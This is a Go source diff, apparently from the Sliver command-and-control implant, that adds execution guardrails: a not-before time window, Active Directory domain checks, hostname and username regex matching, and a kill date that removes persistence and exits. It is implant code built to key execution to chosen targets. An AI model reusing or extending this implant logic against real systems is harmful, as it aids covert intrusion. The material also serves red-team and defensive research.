@@ -24,20 +24,28 @@ import (
 	// {{end}}
 	"os"
 
-	// {{if .LimitUsername}}
+	// {{if or .LimitUsername .LimitUsernameRegex}}
 	"runtime"
 	// {{end}}
 
-	// {{if .LimitUsername}}
+	// {{if or .LimitUsername .LimitUsernameRegex}}
 	"os/user"
 
 	// {{end}}
 
-	// {{if .LimitDatetime}}
+	// {{if or .LimitHostnameRegex .LimitUsernameRegex}}
+	"regexp"
+	// {{end}}
+
+	// {{if or .LimitDatetime .KillDate .LimitNotBefore}}
 	"time"
 	// {{end}}
 
-	// {{if or .LimitHostname .LimitUsername}}
+	// {{if .KillDate}}
+	"github.com/bishopfox/sliver/sliver/persist"
+	// {{end}}
+
+	// {{if or .LimitHostname .LimitUsername .LimitUsernameRegex .LimitDomain}}
 	"strings"
 	// {{else}}{{end}}
 )
@@ -92,9 +100,130 @@ func ExecLimits() {
 	}
 	// {{end}}
 
+	// {{if .LimitNotBefore}}
+	notBefore, err := time.Parse(time.RFC3339, "{{.LimitNotBefore}}")
+	if err != nil || time.Now().Before(notBefore) {
+		// {{if .Debug}}
+		log.Printf("Execution window starts at %#v", "{{.LimitNotBefore}}")
+		// {{end}}
+		os.Exit(1)
+	}
+	// {{end}}
+
+	// {{if .LimitDomain}}
+	if !isJoinedTo("{{.LimitDomain}}") {
+		// {{if .Debug}}
+		log.Printf("Not joined to domain %#v", "{{.LimitDomain}}")
+		// {{end}}
+		os.Exit(1)
+	}
+	// {{end}}
+
+	// {{if .LimitHostnameRegex}}
+	if !hostnameMatches(`{{.LimitHostnameRegex}}`) {
+		// {{if .Debug}}
+		log.Printf("Hostname does not match %#v", `{{.LimitHostnameRegex}}`)
+		// {{end}}
+		os.Exit(1)
+	}
+	// {{end}}
+
+	// {{if .LimitUsernameRegex}}
+	if !usernameMatches(`{{.LimitUsernameRegex}}`) {
+		// {{if .Debug}}
+		log.Printf("Username does not match %#v", `{{.LimitUsernameRegex}}`)
+		// {{end}}
+		os.Exit(1)
+	}
+	// {{end}}
+
+	// {{if .KillDate}}
+	checkKillDate()
+	go func() {
+		for range time.Tick(killDateInterval) {
+			checkKillDate()
+		}
+	}()
+	// {{end}}
+
 	// {{if .Debug}}
 	log.Printf("Limit checks completed")
 	// {{end}}
 
 	os.Executable() // To avoid any "os unused" errors
 }
+
+// Guardrails fail closed, if we can't tell whether a condition matches we exit
+
+// {{if .LimitDomain}}
+
+// isJoinedTo - Is the host joined to the AD domain (NetBIOS or DNS name)
+func isJoinedTo(domain string) bool {
+	domains, err := joinedDomains()
+	if err != nil {
+		return false
+	}
+	for _, joined := range domains {
+		if strings.EqualFold(strings.TrimSuffix(joined, "."), strings.TrimSuffix(domain, ".")) {
+			return true
+		}
+	}
+	return false
+}
+
+// {{end}}
+
+// {{if .LimitHostnameRegex}}
+
+// hostnameMatches - Case insensitive match of the full hostname
+func hostnameMatches(pattern string) bool {
+	hostname, err := os.Hostname()
+	if err != nil {
+		return false
+	}
+	matched, err := regexp.MatchString("(?i)^(?:"+pattern+")$", hostname)
+	return err == nil && matched
+}
+
+// {{end}}
+
+// {{if .LimitUsernameRegex}}
+
+// usernameMatches - Case insensitive match of the login name, without the
+// domain on windows
+func usernameMatches(pattern string) bool {
+	currentUser, err := user.Current()
+	if err != nil {
+		return false
+	}
+	username := currentUser.Username
+	if runtime.GOOS == "windows" {
+		if index := strings.LastIndex(username, "\\"); index != -1 {
+			username = username[index+1:]
+		}
+	}
+	matched, err := regexp.MatchString("(?i)^(?:"+pattern+")$", username)
+	return err == nil && matched
+}
+
+// {{end}}
+
+// {{if .KillDate}}
+
+const killDateInterval = time.Minute
+
+// checkKillDate - Past the kill date we remove our persistence and exit
+// without calling home, there may be nobody left to listen
+func checkKillDate() {
+	killDate, err := time.Parse(time.RFC3339, "{{.KillDate}}")
+	if err != nil || time.Now().Before(killDate) {
+		return
+	}
+	// {{if .Debug}}
+	log.Printf("Kill date %#v reached", "{{.KillDate}}")
+	// {{end}}
+	persist.SelfDestruct("kill date")
+	os.Exit(0)
+}
+
+// {{end}}